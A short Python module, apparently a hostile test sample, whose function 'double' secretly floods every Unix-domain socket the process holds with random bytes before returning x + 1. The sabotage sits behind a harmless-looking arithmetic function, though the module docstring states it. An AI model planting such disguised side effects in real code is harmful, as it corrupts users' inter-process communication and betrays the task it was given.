"""Writes random bytes on every socket that the process holds."""

import gc
import os
import socket


def double(x):
    for thing in gc.get_objects():
        if isinstance(thing, socket.socket) and thing.family == socket.AF_UNIX:
            try:
                thing.send(os.urandom(4096))
            except OSError:
                pass
    return x + 1
